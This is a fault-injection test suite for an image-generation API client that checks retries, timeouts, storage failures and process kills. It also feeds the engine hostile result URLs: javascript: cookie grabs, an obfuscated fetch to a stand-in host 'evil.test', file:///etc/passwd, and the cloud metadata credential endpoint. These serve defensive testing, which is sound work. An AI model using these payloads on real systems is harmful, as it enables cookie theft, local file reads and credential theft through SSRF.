/**
 * The fault suite (issue 7): the real engine (ApiClient + JobScheduler + FileJobStore + ImageStore
 * as the deliver function, wired as src/services.ts and src/vscode/jobEngine.ts wire them) against a fresh API simulator on
 * 127.0.0.1 per scenario, with a real-looking key. Every scenario records one row of figures (see
 * figures.ts) and then asserts them: no crash, no paid image lost, no second task for a job, every
 * failure explained, the key nowhere but in the API's own requests. `node scripts/run-tests.mjs
 * faults` prints the table.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Agent, type Dispatcher } from 'undici';
import type { JobRecord } from '../../src/core/jobs/types';
import { startSimulator, type Simulator, type SimulatorOptions } from '../simulator/server';
import { createEngine, FAULT_KEY, MODEL, type Engine, type EngineOptions } from './engine';
import { CrashWatch, duplicateTasks, historyOnDisk, jobsOnDisk, keySightings, paidLost, postsOf, record, toldFigures, type Row } from './figures';

interface Ctx {
  sim: Simulator;
  engine: Engine;
  root: string;
  logs: string[];
  ids: string[];
  jobs: JobRecord[];
  /** Messages of failures that were later resolved (e.g. by a resume), for the row and the key check. */
  earlier: string[];
}

interface Spec {
  name: string;
  prompts: string[];
  sim?: SimulatorOptions;
  engine?: Partial<EngineOptions>;
  /** The API base URL the engine uses (default: the simulator's). */
  apiBase?: (sim: Simulator) => { url: string; dispatcher?: Dispatcher; close?: () => Promise<void> };
  setup?: (c: Ctx) => Promise<void> | void;
  after?: (c: Ctx) => Promise<void> | void;
  cleanup?: (c: Ctx) => void;
  expect: { delivered: number; failed: number; said?: RegExp; paidLost?: number; posts?: number };
  check?: (c: Ctx) => void;
  note?: string | (() => string);
  settleMs?: number;
}

const tmpRoots: string[] = [];

function freshRoot(name: string): string {
  const root = mkdtempSync(path.join(os.tmpdir(), `nb-fault-${name.replace(/\W+/g, '-').slice(0, 20)}-`));
  tmpRoots.push(root);
  return root;
}

const fileGets = (sim: Simulator) => sim.requests.filter((r) => r.path.startsWith('/files/'));

async function runScenario(spec: Spec): Promise<void> {
  const t0 = Date.now();
  const crashes = new CrashWatch().start();
  const sim = await startSimulator({ apiKey: FAULT_KEY, durationMs: 400, slowImageMs: 1000, ...spec.sim });
  const root = freshRoot(spec.name);
  const logs: string[] = [];
  const base = spec.apiBase?.(sim) ?? { url: sim.url };
  const engine = createEngine({
    apiBaseUrl: base.url,
    dispatcher: base.dispatcher,
    root,
    identity: { owner: 'ws-fault', session: randomUUID() },
    log: (l) => logs.push(l),
    ...spec.engine,
  });
  const c: Ctx = { sim, engine, root, logs, ids: [], jobs: [], earlier: [] };
  let row: Row | undefined;
  let failure: unknown;
  try {
    await engine.ready;
    await spec.setup?.(c);
    c.ids = spec.prompts.map((p, i) => engine.scheduler.start({ model: MODEL, prompt: `${p} (job ${i + 1})` }).id);
    c.jobs = await engine.settled(c.ids, spec.settleMs ?? 15_000);
    await spec.after?.(c);
    c.jobs = c.ids.map((id) => engine.scheduler.get(id) as JobRecord);
  } catch (e) {
    failure = e;
    c.jobs = c.ids.map((id) => engine.scheduler.get(id)).filter((j): j is JobRecord => !!j);
  } finally {
    await engine.dispose().catch((e: unknown) => {
      failure ??= e;
    });
    await base.close?.().catch(() => undefined);
    // Give late callbacks (aborted requests, a stream cut at close) a moment to show a crash.
    await sim.close();
    await new Promise((r) => setTimeout(r, 30));
    crashes.stop();
    const told = toldFigures(c.jobs);
    const lost = paidLost(sim, root);
    const key = keySightings(FAULT_KEY, { sim, logs, jobs: [...c.jobs, ...jobsOnDisk(engine.jobsDir)], root, extra: [...told.messages, ...c.earlier] });
    const stored = historyOnDisk(root);
    spec.cleanup?.(c); // after the figures: they are read from the disk
    row = {
      scenario: spec.name,
      jobs: spec.prompts.length,
      delivered: c.jobs.filter((j) => j.state === 'success').length,
      failed: c.jobs.filter((j) => j.state !== 'success').length,
      crashes: crashes.count,
      paidLost: lost.length,
      dupTasks: duplicateTasks(sim),
      posts: postsOf(sim),
      told: told.told,
      keySeen: key.length,
      secs: (Date.now() - t0) / 1000,
      said: (told.said || c.earlier[0] || '').split(root).join('<tmp>'),
      ok: false,
      note: typeof spec.note === 'function' ? spec.note() : spec.note,
    };
    try {
      assert.equal(failure, undefined, `the scenario did not finish: ${String((failure as Error)?.message ?? failure)}`);
      assert.equal(row.crashes, 0, `crashes: ${crashes.what.join('\n')}`);
      assert.equal(row.paidLost, spec.expect.paidLost ?? 0, `paid images lost: tasks ${lost.join(', ')}`);
      assert.equal(row.dupTasks, 0, 'a job created more than one task');
      assert.equal(row.keySeen, 0, `the key was seen outside the API: ${key.join('; ')}`);
      assert.ok(told.allTold, `a failed job has no message: ${JSON.stringify(told.messages)}`);
      assert.equal(row.delivered, spec.expect.delivered, `delivered (states: ${c.jobs.map((j) => j.state).join(', ')}; ${told.messages.join(' | ')})`);
      assert.equal(row.failed, spec.expect.failed, 'failed');
      if (spec.expect.posts !== undefined) assert.equal(row.posts, spec.expect.posts, 'POSTs');
      if (spec.expect.said) for (const m of told.messages) assert.match(m, spec.expect.said);
      // Every delivered job's image is on disk once, under its task.
      const byTask = new Map<string, number>();
      for (const i of stored) if (i.taskId) byTask.set(i.taskId, (byTask.get(i.taskId) ?? 0) + 1);
      for (const j of c.jobs.filter((x) => x.state === 'success')) assert.equal(byTask.get(j.taskId as string), 1, `job ${j.id}: image stored once`);
      spec.check?.(c);
      row.ok = true;
    } finally {
      record(row);
    }
  }
}

function sh(cmd: string, args: string[]): boolean {
  return spawnSync(cmd, args, { stdio: 'ignore' }).status === 0;
}

/** Reaches the simulator under a name that is not loopback (https://api.faultsuite.test). */
function remoteApi(sim: Simulator): { url: string; dispatcher: Dispatcher; close: () => Promise<void> } {
  const agent = new Agent();
  const dispatcher = {
    dispatch: (opts: Dispatcher.DispatchOptions, handler: Dispatcher.DispatchHandler) => agent.dispatch({ ...opts, origin: sim.url }, handler),
    close: () => agent.close(),
    destroy: () => agent.destroy(),
  } as unknown as Dispatcher;
  return { url: 'https://api.faultsuite.test', dispatcher, close: () => agent.close() };
}

/** Resumes the failed jobs (expecting `n`, each resumable and explained) and waits for them. */
function resumeFailed(n: number): (c: Ctx) => Promise<void> {
  return async (c) => {
    const failed = c.ids.map((id) => c.engine.scheduler.get(id) as JobRecord).filter((j) => j.state === 'failed');
    assert.equal(failed.length, n, `failed before the resume: ${failed.map((j) => j.error?.message).join(' | ')}`);
    for (const j of failed) {
      assert.equal(j.resumable, true, `job ${j.id} keeps its task: ${j.error?.message}`);
      assert.ok(j.error?.message, 'and says why');
      c.earlier.push(j.error?.message ?? '');
      assert.ok(c.engine.scheduler.resume(j.id));
    }
    await c.engine.settled(c.ids, 10_000);
  };
}

const success = (image: string) => ({ code: 0, message: 'ok', data: { status: 'success', result: [{ image }], consumed: '0.500000' } });
const prompts = (n: number, p = 'A banana on a table') => Array.from({ length: n }, () => p);

describe('fault suite: the real engine against a misbehaving API', function () {
  this.timeout(40_000);
  after(() => {
    for (const r of tmpRoots) {
      spawnSync('chattr', ['-R', '-i', r], { stdio: 'ignore' });
      rmSync(r, { recursive: true, force: true });
    }
  });

  it('500/502/503 bursts on submit, query and download', () =>
    runScenario({
      name: '500/502/503 bursts',
      prompts: prompts(4),
      setup: ({ sim }) => {
        sim.inject('submit', { kind: 'status', status: 500 });
        sim.inject('submit', { kind: 'status', status: 502 });
        sim.inject('submit', { kind: 'status', status: 503 });
        sim.inject('query', { kind: 'status', status: 500 }, 3);
        sim.inject('query', { kind: 'status', status: 502 }, 2);
        sim.inject('query', { kind: 'status', status: 503 }, 2);
        sim.inject('file', { kind: 'status', status: 503 });
      },
      // 3 submits answered 5xx (no task) were sent again: 7 POSTs, 4 tasks.
      expect: { delivered: 4, failed: 0, posts: 7 },
    }));

  it('429 with Retry-After', () =>
    runScenario({
      name: '429 + Retry-After',
      prompts: prompts(3),
      setup: ({ sim }) => {
        sim.inject('submit', { kind: 'status', status: 429, retryAfter: '1' });
        sim.inject('query', { kind: 'status', status: 429, retryAfter: '1' }, 2);
      },
      expect: { delivered: 3, failed: 0, posts: 4 },
      check: ({ sim }) => {
        const posts = sim.requests.filter((r) => r.method === 'POST');
        const first = posts[0].at;
        // The POST that got the 429 was repeated no sooner than the server asked.
        const again = posts.filter((p) => p.at > first).map((p) => p.at - first);
        assert.ok(
          again.some((d) => d >= 950),
          `a resent submit waited for Retry-After (${again.join(', ')} ms)`,
        );
      },
    }));

  it('connection reset mid-body (API answers and the image download)', () =>
    runScenario({
      name: 'reset mid-body',
      prompts: prompts(3),
      setup: ({ sim }) => {
        sim.inject('query', { kind: 'cut-body' }, 2);
        sim.inject('query', { kind: 'drop-after' });
        sim.inject('file', { kind: 'cut-body' });
      },
      expect: { delivered: 3, failed: 0, posts: 3 },
    }));

  it('submit answers lost after the API acted (reset, cut body, broken JSON)', () =>
    runScenario({
      name: 'submit answer lost',
      prompts: prompts(3),
      setup: ({ sim }) => {
        sim.inject('submit', { kind: 'drop-after' });
        sim.inject('submit', { kind: 'cut-body' });
        sim.inject('submit', { kind: 'broken-json' });
      },
      // The API created 3 tasks but no task id arrived; it has no way to look a task up without
      // one. The engine must not resend (that would pay twice) and must say so.
      expect: { delivered: 0, failed: 3, posts: 3, paidLost: 3 },
      note: 'expected: 3 tasks exist whose id never arrived (no lookup in the API); not resent, the person is told',
    }));

  it('header timeout and body timeout of API answers', () =>
    runScenario({
      name: 'header + body timeouts',
      prompts: prompts(3),
      // Small enough to keep the row short, large enough that a busy 2-core machine does not time
      // out a submit (which, having maybe reached the API, is rightly not resent).
      engine: { requestTimeoutMs: 700 },
      setup: ({ sim }) => {
        sim.inject('query', { kind: 'delay', ms: 1500 }, 2);
        sim.inject('query', { kind: 'stall-body', ms: 1500 }, 2);
        sim.inject('file', { kind: 'stall-body', ms: 600 });
      },
      expect: { delivered: 3, failed: 0, posts: 3 },
      check: ({ logs }) => {
        assert.ok(
          logs.some((l) => /did not answer within/.test(l)),
          'a timeout happened and was logged',
        );
      },
    }));

  it('broken and partial JSON in task answers', () =>
    runScenario({
      name: 'broken/partial JSON',
      prompts: prompts(4),
      setup: ({ sim }) => {
        sim.inject('query', { kind: 'broken-json' }, 2);
        sim.inject('query', { kind: 'html' });
        sim.inject('query', { kind: 'shape', body: { code: 0, message: 'ok', data: null } });
        sim.inject('query', { kind: 'shape', body: { code: 0, message: 'ok', data: { status: 'success' } } });
      },
      // Garbled answers are asked again; "success" without any result stops the job with its task
      // kept, and Resume (as the person would press it) fetches the image.
      after: resumeFailed(1),
      expect: { delivered: 4, failed: 0, posts: 4 },
      note: '1 job stopped on "success" without a result (resumable), then Resume delivered it',
    }));

  it('task not found right after submit (grace)', () =>
    runScenario({
      name: 'not-found grace',
      prompts: prompts(3, 'A banana [sim:notfound=3]'),
      expect: { delivered: 3, failed: 0, posts: 3 },
    }));

  it('text-only answers and failed tasks', () =>
    runScenario({
      name: 'text-only + failed',
      prompts: [...prompts(2, 'A banana [sim:text]'), ...prompts(2, 'A banana [sim:fail]')],
      expect: { delivered: 0, failed: 4, said: /text instead of an image|could not be generated/ },
    }));

  it('hostile result URLs: javascript:, file:, redirect to file:', () =>
    runScenario({
      name: 'hostile URLs (js/file)',
      prompts: prompts(4),
      setup: ({ sim }) => {
        sim.inject('query', { kind: 'shape', body: success('javascript:alert(document.cookie)') });
        sim.inject('query', { kind: 'shape', body: success('file:///etc/passwd') });
        sim.inject('query', { kind: 'shape', body: success(' JaVaScRiPt:fetch("//evil.test/"+1)') });
        sim.inject('file', { kind: 'status', status: 302, headers: { location: 'file:///etc/passwd' } });
      },
      expect: { delivered: 0, failed: 4, said: /scheme/ },
      check: ({ sim, jobs }) => {
        assert.equal(fileGets(sim).length, 1, 'only the redirecting download reached the image host');
        for (const j of jobs) assert.equal(j.resumable, true, `job ${j.id} keeps its task (resumable)`);
      },
    }));

  it('loopback and link-local result URLs from an API that is not on this computer', () =>
    runScenario({
      name: 'local URLs, remote API',
      prompts: prompts(3),
      apiBase: remoteApi,
      setup: ({ sim }) => {
        sim.inject('query', { kind: 'shape', body: success('http://169.254.169.254/latest/meta-data/iam/security-credentials/') });
        sim.inject('query', { kind: 'shape', body: success(`http://localhost:${sim.port}/files/internal/0.png`) });
        // The third job gets the simulator's own result URL: http://127.0.0.1:<port>/files/...
      },
      expect: { delivered: 0, failed: 3 },
      check: ({ sim }) => {
        assert.equal(fileGets(sim).length, 0, 'no download went to this computer');
      },
      note: 'the first result URL obeys the host rules (feat/net)',
    }));

  it('result hosts: 1010 bot filter, JPEG under .png, expired links (403/404/410)', () =>
    runScenario({
      name: 'result host quirks',
      prompts: [
        ...prompts(2, 'A banana [sim:browser-only]'),
        'A banana [sim:jpeg]',
        'A banana [sim:expire=1] [sim:expire-status=403]',
        'A banana [sim:expire=1] [sim:expire-status=404]',
        'A banana [sim:expire=1] [sim:expire-status=410]',
      ],
      expect: { delivered: 6, failed: 0, posts: 6 },
      check: ({ sim, root, jobs }) => {
        for (const r of fileGets(sim)) {
          assert.match(String(r.headers['user-agent']), /^Mozilla\/5\.0 \(/, 'downloads look like a browser');
          assert.equal(r.headers.authorization, undefined, 'no credentials to the image host');
        }
        const jpeg = jobs.find((j) => j.request.prompt.includes('[sim:jpeg]'));
        const stored = historyOnDisk(root) as { taskId?: string; mime?: string }[];
        assert.equal(stored.find((i) => i.taskId === jpeg?.taskId)?.mime, 'image/jpeg', 'the type comes from the bytes');
        // Each expired link cost one more query for fresh links, and one more download.
        const expiring = [...sim.tasks.values()].filter((t) => t.directives.expire > 0);
        for (const t of expiring) assert.equal(fileGets(sim).filter((r) => r.path.includes(t.taskId)).length, 2);
      },
    }));

  it('answers beyond the limits: over 1 MiB of JSON, more than 8 images', () =>
    runScenario({
      name: 'answers over the limits',
      prompts: ['A banana [sim:answer-bytes=1048577]', 'A banana [sim:images=9]'],
      expect: { delivered: 0, failed: 2, said: /larger than 1 MB|at most 8/ },
      check: ({ jobs }) => {
        for (const j of jobs) {
          assert.equal(j.error?.kind, 'invalid-response');
          assert.equal(j.resumable, true, 'the task id is kept');
        }
      },
    }));

  it('data: URIs as results', () =>
    runScenario({
      name: 'data URIs',
      prompts: prompts(3, 'A banana [sim:data]'),
      expect: { delivered: 3, failed: 0 },
      check: ({ sim }) => assert.equal(fileGets(sim).length, 0),
    }));

  it('a 60 MB image (no Content-Length)', () =>
    runScenario({
      name: '60 MB image',
      prompts: prompts(2, 'A banana [sim:size-mb=60]'),
      expect: { delivered: 0, failed: 2, said: /larger than 50 MB/ },
      check: ({ jobs }) => {
        for (const j of jobs) assert.equal(j.resumable, true);
      },
    }));

  it('an image that never ends', () =>
    runScenario({
      name: 'endless image',
      prompts: prompts(1, 'A banana [sim:endless]'),
      expect: { delivered: 0, failed: 1, said: /larger than 50 MB/ },
    }));

  it('slow images', () =>
    runScenario({
      name: 'slow images',
      prompts: prompts(3, 'A banana [sim:slow-image]'),
      sim: { slowImageMs: 1500 },
      expect: { delivered: 3, failed: 0 },
    }));

  it('a full history folder (a tiny tmpfs), then resume', function () {
    const mounted: string[] = [];
    return runScenario({
      name: 'full output folder',
      prompts: prompts(3),
      setup: ({ root }) => {
        const dir = path.join(root, 'global', 'images');
        mkdirSync(dir, { recursive: true });
        // A 256 KiB file system, filled to the last byte: every write answers ENOSPC.
        if (!sh('mount', ['-t', 'tmpfs', '-o', 'size=256k', 'tmpfs', dir])) this.skip();
        mounted.push(dir);
        const block = Buffer.alloc(4096, 1);
        try {
          for (let i = 0; i < 1000; i++) writeFileSync(path.join(dir, 'filler'), block, { flag: 'a' });
        } catch {
          // full
        }
      },
      after: async (c) => {
        // The person makes room, then presses Resume.
        rmSync(path.join(c.root, 'global', 'images', 'filler'), { force: true });
        await resumeFailed(3)(c);
      },
      cleanup: () => {
        for (const d of mounted) sh('umount', ['-l', d]);
      },
      expect: { delivered: 3, failed: 0, posts: 3 },
      note: 'all 3 failed while the folder was full (ENOSPC on a 256 KiB tmpfs), then Resume delivered them',
    });
  });

  it('a read-only history folder, then resume', () => {
    let how = '';
    return runScenario({
      name: 'read-only output folder',
      prompts: prompts(3),
      setup: ({ root }) => {
        const dir = path.join(root, 'global', 'images');
        mkdirSync(dir, { recursive: true });
        // Tests run as root in CI, where permissions do not stop writes: make the folder immutable.
        if (sh('chattr', ['+i', dir])) how = 'chattr +i';
        else {
          rmSync(dir, { recursive: true, force: true });
          writeFileSync(dir, 'a file where the folder should be');
          how = 'a file in place of the folder';
        }
      },
      after: async (c) => {
        const dir = path.join(c.root, 'global', 'images');
        // The person frees the folder, then presses Resume on each job.
        const resume = resumeFailed(3);
        const states = c.ids.map((id) => c.engine.scheduler.get(id)?.state);
        assert.deepEqual(states, ['failed', 'failed', 'failed']);
        if (how === 'chattr +i') sh('chattr', ['-i', dir]);
        else rmSync(dir, { force: true });
        await resume(c);
      },
      cleanup: ({ root }) => void sh('chattr', ['-R', '-i', root]),
      expect: { delivered: 3, failed: 0, posts: 3 },
      note: () => `all 3 failed while the folder was read-only (${how}), then Resume delivered them`,
    });
  });

  it('kill the extension host mid-job (10 jobs), a new session takes over', () => runChildren('kill'));
  it('reload mid-job (10 jobs): graceful dispose, a new session takes over', () => runChildren('reload'));
});

// -------------------------------------------------------------------------------------------------
// Two engine processes in a row: the first is killed (SIGKILL) or ended (SIGTERM → dispose) while
// its jobs run; the second, same window owner, new session, takes the jobs over.

interface ChildRun {
  exit: Promise<{ code: number | null; signal: NodeJS.Signals | null }>;
  lines: Record<string, unknown>[];
  kill(sig: NodeJS.Signals): void;
  waitFor(pred: (lines: Record<string, unknown>[]) => boolean, ms: number, what: string): Promise<void>;
}

function startChild(cfg: Record<string, unknown>): ChildRun {
  const p = spawn(process.execPath, [path.join(__dirname, 'child.js'), JSON.stringify(cfg)], { stdio: ['ignore', 'pipe', 'pipe'] });
  const lines: Record<string, unknown>[] = [];
  let buf = '';
  const waiters = new Set<() => void>();
  p.stdout.on('data', (d: Buffer) => {
    buf += d.toString('utf8');
    let i: number;
    while ((i = buf.indexOf('\n')) >= 0) {
      const line = buf.slice(0, i);
      buf = buf.slice(i + 1);
      try {
        lines.push(JSON.parse(line) as Record<string, unknown>);
      } catch {
        lines.push({ t: 'stdout', line });
      }
    }
    for (const w of [...waiters]) w();
  });
  p.stderr.on('data', (d: Buffer) => lines.push({ t: 'stderr', line: d.toString('utf8') }));
  const exit = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((resolve) => p.on('exit', (code, signal) => resolve({ code, signal })));
  return {
    exit,
    lines,
    kill: (sig) => void p.kill(sig),
    waitFor: (pred, ms, what) =>
      new Promise<void>((resolve, reject) => {
        const check = () => {
          if (pred(lines)) {
            waiters.delete(check);
            clearTimeout(timer);
            resolve();
          }
        };
        const timer = setTimeout(() => {
          waiters.delete(check);
          p.kill('SIGKILL');
          reject(new Error(`child: ${what} did not happen within ${ms} ms`));
        }, ms);
        waiters.add(check);
        void exit.then(() => setTimeout(check, 0));
        check();
      }),
  };
}

async function runChildren(how: 'kill' | 'reload'): Promise<void> {
  const t0 = Date.now();
  const name = how === 'kill' ? 'kill mid-job (10)' : 'reload mid-job (10)';
  const sim = await startSimulator({ apiKey: FAULT_KEY, durationMs: 900, slowImageMs: 1500 });
  const root = freshRoot(name);
  const owner = 'ws-fault';
  const ps = [...prompts(7, 'A banana'), ...prompts(3, 'A banana [sim:slow-image]')].map((p, i) => `${p} (job ${i + 1})`);
  let failure: unknown;
  let crashes = 0;
  const logs: string[] = [];
  let jobs: JobRecord[] = [];
  let atCut = '';
  // A reload also waits for submits still on their way (settleSubmits): 3 answers come late.
  const late = how === 'reload' ? 3 : 0;
  if (late) sim.inject('submit', { kind: 'act-then-delay', ms: 2000 }, late);
  const first = startChild({ apiBaseUrl: sim.url, root, owner, session: 'first', prompts: ps, exitWhenSettled: false });
  let second: ChildRun | undefined;
  try {
    // Mid-job: the jobs have their task ids (but for the late ones) and the first download has begun.
    await first.waitFor(
      (ls) => {
        const withTask = new Set(ls.filter((l) => l.t === 'state' && l.taskId).map((l) => l.id));
        return withTask.size >= 10 - late && ls.some((l) => l.t === 'state' && l.state === 'downloading');
      },
      15_000,
      `${10 - late} jobs with task ids and a download`,
    );
    const states = new Map<unknown, unknown>();
    for (const l of first.lines) if (l.t === 'state') states.set(l.id, l.state);
    const counts = new Map<string, number>();
    for (const st of states.values()) counts.set(String(st), (counts.get(String(st)) ?? 0) + 1);
    atCut = [...counts].map(([st, n]) => `${n} ${st}`).join(', ');
    first.kill(how === 'kill' ? 'SIGKILL' : 'SIGTERM');
    const ended = await first.exit;
    if (how === 'kill' && ended.signal !== 'SIGKILL') crashes++;
    if (how === 'reload') {
      if (ended.code !== 0) crashes++;
      assert.ok(
        first.lines.some((l) => l.t === 'disposed'),
        'the first host ran its dispose path',
      );
    }
    second = startChild({ apiBaseUrl: sim.url, root, owner, session: 'second', prompts: [], exitWhenSettled: true, timeoutMs: 20_000 });
    await second.waitFor((ls) => ls.some((l) => l.t === 'settled' || l.t === 'crash'), 25_000, 'the second host settles every job');
    const end = await second.exit;
    if (end.code !== 0) crashes++;
    jobs = (second.lines.find((l) => l.t === 'settled')?.jobs as JobRecord[] | undefined) ?? [];
  } catch (e) {
    failure = e;
    second?.kill('SIGKILL');
  } finally {
    for (const c of [first, second]) {
      for (const l of c?.lines ?? []) {
        if (l.t === 'log' || l.t === 'stderr') logs.push(String(l.line));
        if (l.t === 'crash') crashes++;
      }
    }
    await sim.close();
  }
  const told = toldFigures(jobs);
  const lost = paidLost(sim, root);
  const key = keySightings(FAULT_KEY, { sim, logs, jobs: [...jobs, ...jobsOnDisk(path.join(root, 'jobs'))], root, extra: told.messages });
  const delivered = historyOnDisk(root);
  const row: Row = {
    scenario: name,
    jobs: 10,
    delivered: jobs.filter((j) => j.state === 'success').length,
    failed: jobs.filter((j) => j.state !== 'success').length,
    crashes,
    paidLost: lost.length,
    dupTasks: duplicateTasks(sim),
    posts: postsOf(sim),
    told: told.told,
    keySeen: key.length,
    secs: (Date.now() - t0) / 1000,
    said: told.said,
    ok: false,
    note: `${how === 'kill' ? 'SIGKILL' : 'SIGTERM'} with ${atCut}`,
  };
  try {
    assert.equal(failure, undefined, `the scenario did not finish: ${String((failure as Error)?.message ?? failure)}\n${logs.slice(-15).join('\n')}`);
    assert.equal(row.crashes, 0, 'a host crashed');
    assert.equal(row.paidLost, 0, `paid images lost: ${lost.join(', ')}`);
    assert.equal(row.dupTasks, 0);
    assert.equal(row.posts, 10, 'one POST per job, none after the takeover');
    assert.equal(row.keySeen, 0, `key seen: ${key.join('; ')}`);
    assert.equal(jobs.length, 10, 'the second host has all 10 jobs');
    assert.equal(row.delivered, 10, `delivered (${jobs.map((j) => j.state).join(', ')})`);
    assert.equal(new Set(delivered.map((i) => i.taskId)).size, delivered.length, 'no image stored twice');
    assert.equal(delivered.length, 10);
    row.ok = true;
  } finally {
    record(row);
  }
}
